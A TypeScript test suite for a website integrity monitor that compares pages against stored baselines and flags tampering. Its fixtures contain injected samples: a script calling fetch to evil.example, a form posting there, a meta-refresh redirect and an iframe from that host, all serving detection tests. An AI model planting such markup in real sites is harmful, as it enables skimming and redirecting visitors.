// Pages over several checks: each gets the memory of the one before.
import { type IncomingMessage, type ServerResponse, createServer } from 'node:http'
import { describe, expect, it } from 'vitest'
import { fakeClock } from '../../../../test/kit/clock.ts'
import { listening } from '../../../../test/kit/servers/listening.ts'
import { freePort } from '../../../../test/kit/servers/free-port.ts'
import { runCheck } from '../../../../test/kit/checks/run-check.ts'
import { keepsTheContractOverHttp } from '../../../../test/kit/checks/run-contract.ts'
import { systemClock } from '../../../domain/clock.ts'
import type { CheckMemory, Outcome } from '../../../domain/outcome.ts'
import { integrity } from '../integrity.ts'
import type { KnownPage, PageUpdate } from './state.ts'

keepsTheContractOverHttp(integrity, { opening: () => 'HTTP/1.1 200 OK\r\ncontent-type: text/html\r\n\r\n<p>' })

type Site = Record<string, string | ((request: IncomingMessage, response: ServerResponse) => void)>

const hour = 3_600_000
const paragraph = Array.from({ length: 200 }, (_, n) => `word${n}`).join(' ')
const home = `<title>Shop</title><p>${paragraph}</p><form action=/order></form><a href=https://friend.example/>f</a>`

/** A site and its checks, which store memory like the database does. */
async function watching(site: Site, config: Record<string, unknown> = {}) {
  const server = createServer((request, response) => {
    const answer = site[request.url!]
    if (typeof answer === 'function') return answer(request, response)
    const type = request.url!.endsWith('.js') ? 'text/javascript' : 'text/html'
    response.writeHead(answer === undefined ? 404 : 200, { 'content-type': type }).end(answer ?? 'not found')
  })
  const origin = `http://127.0.0.1:${await listening(server)}`
  const clock = fakeClock(new Date())
  const pages: Record<string, KnownPage> = {}
  const full = { ...config, pages: (config['pages'] as string[] | undefined)?.map((path) => `${origin}${path}`) }
  if (full.pages === undefined) delete (full as { pages?: unknown }).pages
  const keep = (memory: CheckMemory): void => {
    const updates = JSON.parse(memory['updates']!) as PageUpdate[]
    for (const { page, version, baseline, digest, changes } of updates) {
      const before = pages[page]
      pages[page] = {
        baseline: baseline ?? before?.baseline ?? null,
        version: version + (baseline ? 1 : 0),
        made_at: before?.made_at ?? clock.now().toISOString(),
        digest,
        changes,
      }
    }
    for (const page of JSON.parse(memory['forget']!) as string[]) delete pages[page]
  }
  const check = async (more: Record<string, unknown> = {}, known: CheckMemory = {}): Promise<Outcome> => {
    const memory = { pages: JSON.stringify(pages), ...known }
    const around = { config: { ...full, ...more }, known: memory, deadlineMs: 20_000 }
    const outcome = await runCheck(integrity, `${origin}/`, { ...around, clock: { ...systemClock, now: clock.now } })
    if (outcome.remember) keep(outcome.remember)
    return outcome
  }
  return { origin, clock, check, pages }
}

const changed = ({ metrics }: Outcome): Record<string, number> =>
  Object.fromEntries(
    Object.entries(metrics)
      .map(([name, value]) => [name.slice('integrity.'.length), value] as const)
      .filter(([name, value]) => value !== 0 && name !== 'pages_checked'),
  )

describe('a watched page', () => {
  it('has no baseline at first, and is compared from then on', async () => {
    const { check, origin } = await watching({ '/': home })
    const first = await check()
    expect(first).toMatchObject({
      success: true,
      metrics: { 'integrity.baseline_missing': 1, 'integrity.pages_checked': 1 },
    })
    expect(first.metrics).not.toHaveProperty(['integrity.pages_changed'])
    expect(first.evidence).toMatchObject({ pages: [{ page: `${origin}/`, status: 200, baseline: 'created now' }] })
    const second = await check()
    expect(changed(second)).toEqual({})
    expect(Object.keys(second.metrics).sort()).toEqual(
      integrity.metrics
        .map(({ key }) => key)
        .filter((key) => key !== 'success')
        .sort(),
    )
    expect(second.remember).toBeUndefined()
  })

  it.each([
    ['a script of somebody else', `${home}<script src=http://127.0.0.2:9/x.js></script>`, { new_script_origins: 1 }],
    ['a form that sends elsewhere', `${home}<form action=https://evil.example/></form>`, { new_form_targets: 1 }],
    ['a word of tampering', `${home}<p>Hacked by nobody</p>`, { keyword_hits: 1, text_change_pct_max: 1.46 }],
    [
      'a way out by itself',
      `${home}<meta http-equiv=refresh content="0;url=https://evil.example/">`,
      { redirect_changed: 1 },
    ],
    [
      'a new place for data',
      `${home}<script>fetch('https://evil.example/')</script>`,
      { new_connect_origins: 1, scripts_changed_first_party: 1, scripts_content_changed: 1 },
    ],
    ['a new frame', `${home}<iframe src=https://evil.example/></iframe>`, { new_iframe_origins: 1 }],
    ['new links', `${home}<a href=https://a.example/></a><a href=https://www.b.example/></a>`, { new_link_domains: 2 }],
    [
      'other words',
      '<p>Something else entirely, and much shorter</p><form action=/order></form>',
      { pages_changed: 1, text_change_pct_max: 100 },
    ],
  ])('reports %s', async (_what, tampered, notified) => {
    const site: Site = { '/': home }
    const { check } = await watching(site)
    await check()
    site['/'] = tampered
    const outcome = await check()
    expect(changed(outcome)).toEqual(notified)
    expect(outcome.success).toBe(true)
    expect(outcome.evidence).toHaveProperty('changes')
    site['/'] = home
    expect(changed(await check())).toEqual({})
  })

  it('ignores trusted origins', async () => {
    const site: Site = { '/': home }
    const { check } = await watching(site, { trustedOrigins: ['127.0.0.2', 'https://pay.example', 'links.example'] })
    await check()
    site['/'] = `${home}<script src=http://127.0.0.2:9/x.js></script><form action=https://pay.example/x></form>
      <a href=https://links.example/>l</a>`
    expect(changed(await check())).toEqual({ text_change_pct_max: expect.any(Number) })
  })

  it('reports which security headers were weakened, and which have only changed', async () => {
    let headers: Record<string, string> = { 'strict-transport-security': 'max-age=300', 'x-frame-options': 'DENY' }
    const site: Site = { '/': (_, response) => void response.writeHead(200, headers).end(home) }
    const { check } = await watching(site)
    await check()
    headers = { 'strict-transport-security': 'max-age=600' }
    const outcome = await check()
    expect(changed(outcome)).toEqual({ headers_weakened: 1, headers_changed_other: 1, headers_changed: 2 })
    expect(outcome.evidence).toMatchObject({
      changes: [
        { kind: 'header_changed', item: 'strict-transport-security', before: 'max-age=300', after: 'max-age=600' },
        { kind: 'header_weakened', item: 'x-frame-options', before: 'DENY', after: null },
      ],
    })
    expect((await check({ checkHeaders: false })).metrics).not.toHaveProperty(['integrity.headers_changed'])
  })

  it('is identified by its redirects', async () => {
    let place = '/start?session=1'
    const redirect = (_: IncomingMessage, response: ServerResponse) =>
      void response.writeHead(302, { location: place }).end()
    const { check } = await watching({
      '/': redirect,
      '/start?session=1': home,
      '/start?session=2': home,
      '/other': home,
    })
    await check()
    place = '/start?session=2'
    expect(changed(await check())).toEqual({})
    place = '/other'
    expect(changed(await check())).toEqual({ redirect_changed: 1 })
  })
})

describe('the scripts of a page', () => {
  it('are reported by owner if their content changes', async () => {
    const other = createServer((_, response) => void response.end(library))
    let library = 'let a = 1'
    const site: Site = { '/app.js': 'let b = 1' }
    const { check } = await watching(site)
    site['/'] =
      `${home}<script src=/app.js></script><script src=http://localhost:${await listening(other)}/lib.js></script>`
    await check()
    site['/app.js'] = 'let b = 2'
    expect(changed(await check())).toEqual({ scripts_changed_first_party: 1, scripts_content_changed: 1 })
    library = 'let a = 2'
    expect(changed(await check())).toEqual({
      scripts_changed_first_party: 1,
      scripts_changed_third_party: 1,
      scripts_content_changed: 2,
    })
  })

  it('can move, but cannot be replaced under another name', async () => {
    const site: Site = {
      '/': `${home}<script src=/app.1.js></script>`,
      '/app.1.js': 'a',
      '/app.2.js': 'a',
      '/app.3.js': 'b',
    }
    const { check } = await watching(site)
    await check()
    site['/'] = `${home}<script src=/app.2.js></script>`
    expect(changed(await check())).toEqual({})
    site['/'] = `${home}<script src=/app.3.js></script>`
    expect(changed(await check())).toEqual({ scripts_changed_first_party: 1, scripts_content_changed: 1 })
  })

  it('are ignored if they differ with every request, or cannot be fetched', async () => {
    let count = 0
    const varying = (_: IncomingMessage, response: ServerResponse) => void response.end(`let n = ${count++}`)
    const site: Site = { '/': `${home}<script src=/n.js></script><script src=/gone.js></script>`, '/n.js': varying }
    const { check, origin } = await watching(site)
    await check()
    const outcome = await check()
    expect(changed(outcome)).toEqual({})
    expect(outcome.evidence).toMatchObject({ scripts_not_read: [`${origin}/gone.js`] })
  })

  it('are learned when their content is first compared, as the plan allows', async () => {
    let requested = 0
    const site: Site = {
      '/': `${home}<script src=/app.js></script>`,
      '/app.js': (_, response) => void response.end(`let a = ${(requested += 1) > 2 ? 2 : 1}`),
    }
    const { check } = await watching(site)
    expect((await check({}, { scripts: 'off' })).success).toBe(true)
    expect(requested).toBe(0)
    expect((await check({}, { scripts: 'off' })).metrics).not.toHaveProperty(['integrity.scripts_content_changed'])
    expect(changed(await check())).toEqual({})
    expect(changed(await check())).toEqual({ scripts_changed_first_party: 1, scripts_content_changed: 1 })
  })
})

describe('several pages', () => {
  it('have their own thresholds, and one that fails is reported beside the others', async () => {
    const site: Site = { '/a': home, '/b': home }
    const { check, origin } = await watching(site, { pages: ['/a', '/b'] })
    await check()
    const other = `${home.replace('word0 word1 word2 word3 word4 word5 word6 word7 word8 word9', '')}`
    site['/a'] = site['/b'] = other
    expect(changed(await check())).toEqual({ text_change_pct_max: expect.any(Number) })
    expect(changed(await check({ pageThresholds: { [`${origin}/b#top`]: 2 } }))).toMatchObject({ pages_changed: 1 })
    delete site['/a']
    const outcome = await check()
    expect(outcome).toMatchObject({
      success: true,
      metrics: {
        'integrity.pages_unreachable_partial': 1,
        'integrity.pages_unreachable': 1,
        'integrity.pages_checked': 1,
      },
    })
    expect(outcome.evidence).toMatchObject({
      pages: [{ problem: 'responded with HTTP 404 Not Found' }, { status: 200 }],
    })
  })

  it('are forgotten if they are no longer watched', async () => {
    const { check, pages, origin } = await watching({ '/a': home, '/b': home }, { pages: ['/a', '/b'] })
    await check()
    await check({ pages: [`${origin}/a`] })
    expect(Object.keys(pages)).toEqual([`${origin}/a`])
  })
})

describe('a baseline', () => {
  it.each([
    [
      'an error page',
      (_: IncomingMessage, response: ServerResponse) => void response.writeHead(503).end(home),
      'responded with HTTP 503 Service Unavailable',
    ],
    ['an empty page', '', 'the page is empty'],
    [
      'a picture',
      (_: IncomingMessage, response: ServerResponse) =>
        void response.writeHead(200, { 'content-type': 'image/png' }).end('x'),
      'the page is image/png, which has no text to compare',
    ],
    ['a page without a bottom', '<div>'.repeat(2000), 'the page nests elements more than 512 levels deep'],
  ])('is never made of %s', async (_what, answer, error) => {
    const { check, pages } = await watching({ '/': answer })
    const outcome = await check()
    expect(outcome).toMatchObject({
      success: false,
      error,
      metrics: { 'integrity.pages_unreachable': 1, 'integrity.pages_checked': 0 },
    })
    expect(outcome.infrastructure).toBeUndefined()
    expect(pages).toEqual({})
  })

  it('waits for approval of a page with keywords of tampering', async () => {
    const site: Site = { '/': '<p>Hacked by nobody</p>' }
    const { check, pages, origin } = await watching(site)
    await check()
    const outcome = await check()
    expect(changed(outcome)).toEqual({ keyword_hits: 1, baseline_missing: 1 })
    expect(pages[`${origin}/`]?.baseline).toBeNull()
    site['/'] = home
    expect(changed(await check())).toEqual({ baseline_missing: 1 })
    expect(changed(await check())).toEqual({})
  })

  it('includes what another location gets at first, and not later', async () => {
    const site: Site = { '/': home }
    const { check, pages, origin, clock } = await watching(site)
    const page = `${origin}/`
    await check()
    const elsewhere = (): void => void (pages[page] = { ...pages[page]!, changes: null, digest: null })
    const here = (): void => void (pages[page] = { ...pages[page]!, changes: [] })
    elsewhere()
    site['/'] = '<p>Bonjour tout le monde</p><script src=https://consent.example/c.js></script>'
    expect(changed(await check())).toEqual({})
    expect(changed(await check())).toEqual({})
    here()
    site['/'] = home
    expect(changed(await check())).toEqual({})
    clock.advance(25 * hour)
    elsewhere()
    site['/'] = '<p>Guten Tag</p>'
    expect(changed(await check())).toMatchObject({ pages_changed: 1 })
  })

  it('accepts a change after some hours, and security changes only if configured', async () => {
    const site: Site = { '/': home }
    const { check, clock } = await watching(site, { autoAcceptAfterHours: 3 })
    await check()
    site['/'] = '<p>New words for everybody</p><form action=https://evil.example/></form>'
    expect(changed(await check())).toMatchObject({ pages_changed: 1, new_form_targets: 1 })
    clock.advance(2 * hour)
    expect(changed(await check())).toMatchObject({ pages_changed: 1, new_form_targets: 1 })
    clock.advance(hour)
    const outcome = await check()
    expect(changed(outcome)).toEqual({ new_form_targets: 1 })
    expect(outcome.evidence).toMatchObject({ accepted: [{ kind: 'text' }] })
    expect(changed(await check({ autoAcceptSecurity: true }))).toEqual({})
    expect(changed(await check())).toEqual({})
  })

  it('reads its text again if the ignored parts change', async () => {
    const { check } = await watching({ '/': `${home}<div id=news>${paragraph.replaceAll('word', 'news')}</div>` })
    await check()
    expect(changed(await check({ ignoreSelectors: ['#news'] }))).toEqual({})
  })
})

describe('a failure', () => {
  it('names the first page if none can be reached', async () => {
    const port = await freePort()
    const config = { pages: [`http://127.0.0.1:${port}/a`, `http://127.0.0.1:${port}/b`] }
    expect(await runCheck(integrity, `http://127.0.0.1:${port}/`, { config })).toMatchObject({
      success: false,
      cause: 'connect',
      metrics: {
        'integrity.pages_unreachable': 2,
        'integrity.pages_unreachable_partial': 0,
        'integrity.pages_checked': 0,
      },
    })
  })

  it('is local if the selectors are too slow for the page', async () => {
    const { check } = await watching({ '/': '<div>'.repeat(400) }, { ignoreSelectors: [`p ${'div '.repeat(40)}`] })
    expect(await check()).toMatchObject({ infrastructure: true, error: /ignoreSelectors/ })
  })

  it('does not prevent decoding a page in its declared charset', async () => {
    const latin = Buffer.from('<meta charset=iso-8859-1><p>Gebäck für Käufer</p>', 'latin1')
    const site: Site = {
      '/': (_, response) => void response.writeHead(200, { 'content-type': 'text/html' }).end(latin),
    }
    const { check } = await watching(site)
    await check()
    site['/'] = '<meta charset=utf-8><p>Gebäck für Käufer</p>'
    expect(changed(await check())).toEqual({})
  })
})

describe('a large page', () => {
  it('is read completely while other work continues, and changes after megabytes are found', async () => {
    const filler = Array.from({ length: 40_000 }, (_, n) => `<p class=c${n}>Line ${n} of many</p>`).join('')
    const site: Site = { '/': filler }
    const { check } = await watching(site)
    await check()
    site['/'] = `${filler}<form action=https://evil.example/></form>`
    let turns = 0
    const timer = setInterval(() => (turns += 1), 0)
    const outcome = await check().finally(() => clearInterval(timer))
    expect(changed(outcome)).toEqual({ new_form_targets: 1 })
    expect(turns).toBeGreaterThan(20)
  })

  it.each([
    ['one word', 'x'.repeat(2_000_000)],
    ['one attribute', `<p title="${'x '.repeat(1_000_000)}">y</p>`],
    ['one script of quotes', `<p>y</p><script>${'"\\"'.repeat(400_000)}</script>`],
    ['tags that close nothing', `<p>y</p>${'</x>'.repeat(400_000)}`],
    ['a comment without an end', `<p>y</p><!--${'-'.repeat(2_000_000)}`],
    ['entities', '&amp;'.repeat(400_000)],
    ['frames in frames', `<p>y</p><iframe srcdoc="${'&lt;iframe srcdoc=&quot;'.repeat(2000)}">`],
  ])('that is %s is compared too', async (_what, html) => {
    const { check } = await watching({ '/': html })
    expect(await check()).toMatchObject({ success: true })
    const outcome = await check()
    expect(changed(outcome)).toEqual({})
    expect(JSON.stringify(outcome.evidence).length).toBeLessThan(8193)
  })
})
